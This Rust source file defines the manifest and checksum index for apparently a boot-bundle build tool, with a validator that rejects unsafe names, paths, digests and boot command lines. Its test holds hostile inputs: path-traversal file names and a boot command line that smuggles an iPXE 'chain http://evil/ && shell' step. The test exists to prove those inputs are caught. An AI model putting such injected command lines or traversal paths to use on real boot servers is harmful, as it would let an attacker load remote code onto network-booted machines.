//! `manifest.json` and `SHA256SUMS`. The manifest holds only what the inputs
//! decide (no build time, no host name), so identical inputs give identical bytes.

use serde::{Deserialize, Serialize};

use super::names::{check_file_name, MANIFEST, SHA256SUMS};

/// Version of the manifest's layout; bump on any incompatible change.
pub const MANIFEST_VERSION: u32 = 1;

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct Manifest {
    pub manifest_version: u32,
    pub tool: String,
    pub name: String,
    pub version: String,
    pub arch: String,
    pub recipe_sha256: String,
    pub source_date_epoch: i64,
    /// Built with `--fast` (low compression): never a release.
    pub fast: bool,
    pub stages: Vec<ManifestStage>,
    pub rootfs: ManifestRootfs,
    /// One entry per kernel stage, in stage order.
    #[serde(default)]
    pub kernels: Vec<ManifestKernel>,
    pub boot: ManifestBoot,
    pub artifacts: Vec<ManifestArtifact>,
    /// `build --locked`: the SHA-256 of the lock the build used.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub lock_sha256: Option<String>,
    /// `outputs.oci`: the digest of the image's manifest.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub oci_image: Option<String>,
    /// Set by `release promote`: the version whose artifacts these are.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub promoted_from: Option<PromotedFrom>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct PromotedFrom {
    pub version: String,
    /// The SHA-256 of that version's manifest.json.
    pub manifest_sha256: String,
}

/// How the bundle boots: its files, the recipe's kernel command line and
/// marker, and what the thin initramfs carries.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ManifestBoot {
    pub initramfs: String,
    pub initramfs_size: u64,
    pub initramfs_compression: String,
    pub rootfs_image: String,
    pub cmdline: String,
    pub marker: Option<String>,
    /// kernel release → module files in the initramfs, in load order
    pub modules: std::collections::BTreeMap<String, Vec<String>>,
    pub shell: bool,
    /// `outputs.uki`: what the kernels' Unified Kernel Images hold.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub uki: Option<ManifestUki>,
}

/// What every UKI of a bundle carries besides its kernel and the initramfs.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ManifestUki {
    /// The baked command line: `boot.cmdline` and the rootfs URL.
    pub cmdline: String,
    /// The `rootsmith.rootfs_url` in it.
    pub rootfs_url: String,
    /// The URL is the default for the bundle's name and version (so a
    /// promoted bundle's UKIs get the default of their new version).
    pub rootfs_url_default: bool,
    /// The SHA-256 of the EFI stub the UKIs are made on.
    pub stub_sha256: String,
    /// Signed for Secure Boot (`outputs.uki.sign`): the SHA-256 of the
    /// signing certificate (DER).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub signed_cert_sha256: Option<String>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ManifestKernel {
    pub name: String,
    /// `uname -r`
    pub release: String,
    pub config_sha256: String,
    pub vmlinuz: String,
    pub debs: Vec<String>,
    /// The kernel's device trees, `kernel/KERNEL-dtbs.tar`, when it has any.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub device_trees: Option<String>,
    /// `outputs.uki`: its Unified Kernel Image, `NAME-VERSION-KERNEL.efi`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub uki: Option<String>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ManifestStage {
    pub name: String,
    pub kind: String,
    pub key: String,
    pub layer: String,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ManifestRootfs {
    pub cookie: String,
    pub squashfs_writer: String,
    pub squashfs_compression: String,
    pub squashfs_entries: u64,
    pub contract_version: u32,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ManifestArtifact {
    pub name: String,
    pub size: u64,
    pub sha256: String,
}

impl Manifest {
    /// What is wrong with a manifest read back, before any name in it becomes
    /// a path: its name and version are ones a recipe may have, every file it
    /// names is one a bundle may hold ([`check_file_name`]), no artifact is
    /// listed twice or is the bundle's own index, and every artifact's digest
    /// is SHA-256 hex. Empty when nothing is.
    pub fn problems(&self) -> Vec<String> {
        let mut problems = Vec::new();
        if !crate::names::valid_name(&self.name) {
            problems.push(format!("name {:?} is not a valid name", self.name));
        }
        if let Err(why) = crate::names::check_version(&self.version) {
            problems.push(format!("version {:?} is not a valid version: {why}", self.version));
        }
        if let Some(from) = &self.promoted_from {
            if let Err(why) = crate::names::check_version(&from.version) {
                problems.push(format!("promoted_from.version {:?} is not a valid version: {why}", from.version));
            }
        }
        // Every value a boot menu carries as it is (serve writes them into
        // per-host iPXE scripts from any bundle it is given).
        let mut lines = vec![("boot.cmdline", &self.boot.cmdline)];
        if let Some(uki) = &self.boot.uki {
            lines.extend([("boot.uki.cmdline", &uki.cmdline), ("boot.uki.rootfs_url", &uki.rootfs_url)]);
        }
        for (what, line) in lines {
            if let Err(why) = rootsmith_init::cmdline::check_script_safe(line) {
                problems.push(format!("{what}: {why}"));
            }
        }
        let mut file = |what: &str, name: &str| {
            if let Err(bad) = check_file_name(name) {
                problems.push(format!("{what}: {bad}"));
            }
        };
        file("boot.initramfs", &self.boot.initramfs);
        file("boot.rootfs_image", &self.boot.rootfs_image);
        for kernel in &self.kernels {
            file(&format!("kernel {:?}", kernel.name), &kernel.vmlinuz);
            for extra in kernel.uki.iter().chain(&kernel.device_trees) {
                file(&format!("kernel {:?}", kernel.name), extra);
            }
            for deb in &kernel.debs {
                file(&format!("kernel {:?}", kernel.name), deb);
            }
        }
        for artifact in &self.artifacts {
            file("artifact", &artifact.name);
        }
        for kernel in &self.kernels {
            if !crate::names::valid_name(&kernel.name) {
                problems.push(format!("kernel name {:?} is not a valid name", kernel.name));
            }
        }
        let mut seen = std::collections::BTreeSet::new();
        for artifact in &self.artifacts {
            if artifact.name == MANIFEST || artifact.name == SHA256SUMS {
                problems.push(format!("artifact {:?} is the bundle's own index, not an artifact", artifact.name));
            } else if !seen.insert(artifact.name.as_str()) {
                problems.push(format!("artifact {:?} is listed twice", artifact.name));
            }
            if !crate::digest::is_sha256_hex(&artifact.sha256) {
                problems.push(format!(
                    "artifact {:?} has sha256 {:?}, not 64 lower-case hex digits",
                    artifact.name, artifact.sha256
                ));
            }
        }
        problems
    }
}

/// Write `manifest.json` and `SHA256SUMS` (the manifest's artifacts and the
/// manifest itself) into a bundle directory; returns the manifest's bytes.
pub fn write_index(dir: &std::path::Path, manifest: &Manifest) -> std::io::Result<Vec<u8>> {
    let bytes = serde_json::to_vec_pretty(manifest)?;
    fs_err::write(dir.join(MANIFEST), &bytes)?;
    let mut artifacts = manifest.artifacts.clone();
    artifacts.push(ManifestArtifact {
        name: MANIFEST.into(),
        size: bytes.len() as u64,
        sha256: crate::digest::sha256_hex(&bytes),
    });
    fs_err::write(dir.join(SHA256SUMS), sha256sums(&artifacts))?;
    Ok(bytes)
}

/// `sha256sum -c` format: `HEX  NAME` lines, sorted by name.
pub fn sha256sums(artifacts: &[ManifestArtifact]) -> String {
    let mut sorted: Vec<&ManifestArtifact> = artifacts.iter().collect();
    sorted.sort_by(|a, b| a.name.cmp(&b.name));
    sorted.iter().map(|artifact| format!("{}  {}\n", artifact.sha256, artifact.name)).collect()
}

/// A manifest as a build writes it, for tests that read bundles back.
#[cfg(test)]
pub fn sample(name: &str, version: &str) -> Manifest {
    let prefix = format!("{name}-{version}-");
    Manifest {
        manifest_version: MANIFEST_VERSION,
        tool: "rootsmith test".into(),
        name: name.into(),
        version: version.into(),
        arch: "amd64".into(),
        recipe_sha256: crate::digest::sha256_hex(b"recipe"),
        source_date_epoch: 0,
        fast: true,
        stages: Vec::new(),
        rootfs: ManifestRootfs {
            cookie: "c".into(),
            squashfs_writer: "mksquashfs".into(),
            squashfs_compression: "zstd".into(),
            squashfs_entries: 1,
            contract_version: 2,
        },
        kernels: vec![ManifestKernel {
            name: "small".into(),
            release: "6.1.0".into(),
            config_sha256: crate::digest::sha256_hex(b""),
            vmlinuz: format!("{prefix}small-vmlinuz"),
            debs: vec!["kernel/linux-image-6.1.0_1_amd64.deb".into()],
            device_trees: None,
            uki: None,
        }],
        boot: ManifestBoot {
            initramfs: format!("{prefix}initramfs.img"),
            initramfs_size: 1,
            initramfs_compression: "zstd".into(),
            rootfs_image: format!("{prefix}rootfs.img"),
            cmdline: String::new(),
            marker: None,
            modules: Default::default(),
            shell: false,
            uki: None,
        },
        artifacts: vec![ManifestArtifact {
            name: format!("{prefix}rootfs.img"),
            size: 3,
            sha256: crate::digest::sha256_hex(b"abc"),
        }],
        lock_sha256: None,
        oci_image: None,
        promoted_from: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_manifest_as_built_has_no_problems() {
        assert!(sample("demo", "1.2.0-rc1").problems().is_empty(), "{:?}", sample("demo", "1.2.0-rc1").problems());
    }

    #[test]
    fn names_versions_and_files_from_a_manifest_are_checked() {
        let artifact =
            |name: &str| ManifestArtifact { name: name.into(), size: 1, sha256: crate::digest::sha256_hex(b"x") };
        let mut manifest = sample("demo", "1.0");
        manifest.name = "../demo".into();
        manifest.version = "../../1.0".into();
        manifest.boot.rootfs_image = "/abs/path".into();
        manifest.kernels[0].vmlinuz = "kernel/../../vmlinuz".into();
        manifest.kernels[0].name = "../k".into();
        manifest.artifacts = vec![
            artifact("../../../x"),
            artifact("/abs/path"),
            artifact("a//b"),
            artifact("manifest.json"),
            artifact("ok.img"),
            artifact("ok.img"),
        ];
        manifest.artifacts.push(ManifestArtifact { sha256: "short".into(), ..artifact("other.img") });
        manifest.promoted_from = Some(PromotedFrom { version: "../0.9".into(), manifest_sha256: String::new() });
        manifest.boot.cmdline = "console=ttyS0\nchain http://evil/ && shell".into();
        let problems = manifest.problems().join("\n");
        for expected in [
            "name \"../demo\" is not a valid name",
            "version \"../../1.0\" is not a valid version",
            "promoted_from.version \"../0.9\"",
            "boot.rootfs_image: \"/abs/path\" is not a file a bundle may hold: it is an absolute path",
            "kernel \"../k\": \"kernel/../../vmlinuz\" is not a file a bundle may hold",
            "kernel name \"../k\" is not a valid name",
            "artifact: \"../../../x\" is not a file a bundle may hold",
            "artifact: \"a//b\" is not a file a bundle may hold: it has an empty path component",
            "artifact \"manifest.json\" is the bundle's own index",
            "artifact \"ok.img\" is listed twice",
            "artifact \"other.img\" has sha256 \"short\"",
            "boot.cmdline: '\\n' at byte 13 is a line break",
        ] {
            assert!(problems.contains(expected), "{expected}\nnot in:\n{problems}");
        }
    }
}
